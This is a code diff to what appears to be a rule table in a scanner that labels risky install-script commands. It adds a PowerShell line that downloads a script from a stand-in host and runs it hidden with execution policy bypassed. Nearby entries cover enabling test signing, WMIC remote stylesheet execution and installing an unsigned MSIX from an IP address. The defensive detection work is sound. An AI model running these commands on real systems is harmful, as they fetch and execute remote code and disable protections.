@@ -68,6 +68,9 @@ def rules(art: Artifact) -> set[str]:
     ("bcdedit /set testsigning on", "install-script/kernel-driver"),
     # blind set 30 (XSL script execution): WMIC fetches a stylesheet with script in it and runs it
     ("wmic os get Caption /format:\"https://cdn.example/wbem/list.xsl\"", "install-script/remote-script"),
+    # blind set 41 (a help page's loader): PowerShell saving a download and running it with -f
+    ("iwr -useb https://help-cdn.example/h -OutFile h.ps1; powershell -w hidden -ep bypass -f h.ps1",
+     "install-script/download-execute"),
     # blind set 41 (MSIX App Installer droppers): an app package installed from the network
     ("powershell -NoProfile -Command \"Add-AppxPackage -Path 'http://203.0.113.140/pkg/FontHost_x64.msix' -AllowUnsigned\"",
      "install-script/remote-script"),
